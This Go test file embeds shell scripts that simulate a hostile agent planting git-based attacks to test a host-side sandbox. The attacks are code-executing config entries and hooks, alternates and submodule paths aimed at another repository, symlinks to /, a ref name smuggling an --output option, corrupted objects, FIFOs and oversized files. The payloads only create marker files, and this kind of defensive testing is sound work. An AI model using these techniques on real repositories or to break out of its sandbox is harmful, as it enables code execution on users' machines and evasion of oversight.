//go:build linux

package tests

// The scripts. Each starts the same way: on restart it only waits; it
// fails loudly if a step that the case depends on cannot be planted; after
// planting it gives the host's watcher five seconds before "settled".
const (
	scriptHead = `set -u
if [ -e .hostile-planted ]; then echo "hostile: restarted"; exec sleep 3600; fi
: > .hostile-planted
fail() { echo "hostile: could not plant: $*"; exit 1; }
`
	scriptTail = `echo "hostile: planted"
sleep 5 # the host's watcher reacts meanwhile
echo "hostile: settled"
exec sleep 3600
`
)

// codeExecScript plants attacks 1, 2, 3 and 7, and alternates and
// include.path (5). Everything that needs git to work inside the guest
// comes first; the config and hooks that break the guest's own git last.
const codeExecScript = scriptHead + `
# Commits the branch carries: attributes naming the filters, and a nested
# repository recorded as a gitlink (2).
printf '* filter=x=y\n*.txt filter=plain diff=evil\n*.inc filter=inc\n' > .gitattributes
echo note > notes.txt
echo inc > x.inc
mkdir nested && (cd nested && git init -q && echo one > f && git add f && git commit -qm nested) || fail nested
git -c advice.addEmbeddedRepo=false add .gitattributes notes.txt x.inc nested || fail add
git commit -qm "attributes and a nested repository" || fail commit

# 3: a commit with a gpgsig header, written by hand. Its tree also names a
# blob only the victim repository holds (5: alternates).
tree=$( (git ls-tree HEAD; printf '100644 blob %s\tstolen.txt\n' "$VSECRET") | git mktree --missing) || fail mktree
signed=$(printf 'tree %s\nparent %s\nauthor Agent <agent@example.com> 1700000000 +0000\ncommitter Agent <agent@example.com> 1700000000 +0000\ngpgsig -----BEGIN PGP SIGNATURE-----\n \n iQEzBAABCAAdFiEEaG9zdGlsZSBhZ2VudA==\n =hstl\n -----END PGP SIGNATURE-----\n\na signed commit\n' "$tree" "$(git rev-parse HEAD)" | git hash-object -t commit -w --stdin) || fail gpgsig
git update-ref HEAD "$signed" || fail update-ref

# 7: odd ref names, first those git accepts, then files it would refuse.
long=$(head -c 200 /dev/zero | tr '\0' l)
for r in refs/heads/-dash "refs/heads/ünïcødé" "refs/heads/$long/$long" "refs/heads/--output=$M/refname-option-output" refs/tags/-dash-tag; do
	git update-ref "$r" "$signed" || echo "hostile: git refused ref $r"
done
for r in "with space" "$(printf 'tab\there')" "a..b" "x.lock" "ctrl$(printf '\001')"; do
	printf '%s\n' "$signed" > ".git/refs/heads/$r"
done

# 5: alternates at another host repository's objects.
mkdir -p .git/objects/info && printf '%s/.git/objects\n' "$VICTIM" > .git/objects/info/alternates

# 1, 3, 5, 7: commands in config (one included from a host file) and hooks.
printf '#!/bin/sh\ntouch %s/sandbar-pwned-gpg-program\nexit 0\n' "$M" > .git/fakegpg && chmod +x .git/fakegpg
cat >> .git/config <<EOF
[include]
	path = $HOSTCFG
[filter "x=y"]
	clean = touch $M/sandbar-pwned-filter-clean; cat
	smudge = touch $M/sandbar-pwned-filter-smudge; cat
[filter "plain"]
	clean = touch $M/sandbar-pwned-plain-filter-clean; cat
	smudge = touch $M/sandbar-pwned-plain-filter-smudge; cat
[diff "evil"]
	textconv = touch $M/sandbar-pwned-diff-textconv; cat
	command = touch $M/sandbar-pwned-diff-command
[diff]
	external = touch $M/sandbar-pwned-diff-external
[core]
	fsmonitor = touch $M/sandbar-pwned-core-fsmonitor
	sshCommand = touch $M/sandbar-pwned-core-sshcommand
	pager = touch $M/sandbar-pwned-core-pager
	editor = touch $M/sandbar-pwned-core-editor
	askPass = touch $M/sandbar-pwned-core-askpass
[credential]
	helper = !touch $M/sandbar-pwned-credential-helper
[log]
	showSignature = true
[gpg]
	program = .git/fakegpg
[gpg "openpgp"]
	program = .git/fakegpg
[gpg "ssh"]
	program = .git/fakegpg
[gc]
	auto = 1
	autoDetach = false
[uploadpack]
	packObjectsHook = touch $M/sandbar-pwned-packobjectshook
[remote "origin"]
	url = ssh://sandbar-pwned.invalid/x
EOF
printf '* filter=x=y\n*.inc filter=inc\n' > .git/info/attributes
mkdir -p .git/hooks
for h in post-checkout reference-transaction pre-auto-gc post-index-change post-merge post-commit pre-commit post-rewrite push-to-checkout fsmonitor-watchman; do
	printf '#!/bin/sh\ntouch %s/sandbar-pwned-hook-%s\nexit 0\n' "$M" "$h" > .git/hooks/$h && chmod +x .git/hooks/$h
done

# 2: the nested repository's own config and attributes.
cat >> nested/.git/config <<EOF
[filter "n"]
	clean = touch $M/sandbar-pwned-nested-filter; cat
[core]
	fsmonitor = touch $M/sandbar-pwned-nested-fsmonitor
EOF
mkdir -p nested/.git/info && echo '* filter=n' > nested/.git/info/attributes

# Edits the filters apply to.
echo two > nested/f # same size as what the nested repository holds
echo changed >> notes.txt
echo changed >> x.inc
echo "edited by the agent" >> README.md
` + scriptTail

// submodulesScript is attack 5 through submodules' git dirs: libs/b's
// .git points at another host repository's, and the branch records that
// repository's head commit as libs/b's (a host fetch from libs/b would
// carry its history into the person's copy of the library); libs/c's git
// dir sets core.worktree to that repository; symlinks name the source
// repository and /.
const submodulesScript = scriptHead + `
git update-index --cacheinfo "160000,$VHEAD,libs/b" && git commit -qm "bump libs/b" || fail gitlink
printf 'gitdir: %s/.git\n' "$VICTIM" > libs/b/.git || fail gitdir
cdir=$(cd libs/c && git rev-parse --absolute-git-dir) && printf '[core]\n\tworktree = %s\n' "$VICTIM" >> "$cdir/config" || fail worktree
ln -s "$SRC" source-link && ln -s / root-link || fail symlinks
echo "edited by the agent" >> README.md
` + scriptTail

// symlinkScript is attack 5 as issue 12 words it: after a commit in a
// submodule, its folder is replaced by a symlink to another host
// repository.
const symlinkScript = scriptHead + `
(cd libs/a && echo work > work.txt && git add work.txt && git commit -qm "lib work") || fail "submodule commit"
git add libs/a && git commit -qm "bump lib" || fail commit
rm -rf libs/a && ln -s "$VICTIM" libs/a || fail symlink
` + scriptTail

// objectsScript is attack 4: after a commit, every pack, index and loose
// object of the clone is made writable and overwritten in place.
const objectsScript = scriptHead + `
echo work > work.txt && git add work.txt && git commit -qm "work before the corruption" || fail commit
chmod -R u+w .git/objects || fail chmod
n=0
for f in $(find .git/objects -type f \( -name '*.pack' -o -name '*.idx' -o -path '*/objects/[0-9a-f][0-9a-f]/*' \)); do
	printf 'garbage from the agent garbage from the agent' | dd of="$f" bs=1 seek=12 conv=notrunc 2>/dev/null && n=$((n+1))
done
echo "hostile: overwrote $n object files"
[ "$n" -gt 0 ] || fail "no object files to overwrite"
` + scriptTail

// fifoScript is attack 6: FIFOs where git expects files (a symlink to a
// FIFO on the host where the workspace cannot hold one: a 9p share refuses
// mknod), and huge outputs. HEAD is left alone: as a FIFO or a symlink it
// makes git stop treating the folder as a repository, which would hide the
// rest.
const fifoScript = scriptHead + `
echo work > work.txt; echo small > oneline.txt; echo small > big.bin
git add work.txt oneline.txt big.bin && git commit -qm "work" || fail commit
head -c 100000000 /dev/zero | tr '\0' a > oneline.txt || fail oneline
truncate -s 2G big.bin || fail sparse
mkdir many && (cd many && seq 1 3000 | xargs touch) || fail many
fifo() {
	rm -f "$1"
	if mkfifo "$1" 2>/dev/null; then echo "hostile: made FIFO $1"
	elif ln -s "$HOSTFIFO" "$1"; then echo "hostile: no FIFO here; linked $1 to the host's FIFO"
	else fail "fifo $1"; fi
}
fifo pipe-in-tree
fifo .git/refs/heads/fifo-ref
fifo .git/index
` + scriptTail

// hugeScript is the huge-pack variant: one commit with a 300 MB random
// file (stored uncompressed: the point is its size, not zlib's speed under
// emulation).
const hugeScript = `set -u
head -c 300000000 /dev/urandom > huge.bin || { echo "hostile: could not plant: urandom"; exit 1; }
git -c core.looseCompression=0 -c core.compression=0 add huge.bin && git commit -qm "a 300 MB file" || { echo "hostile: could not plant: commit"; exit 1; }
echo "hostile: committed"
`

const hugeSize = 300000000
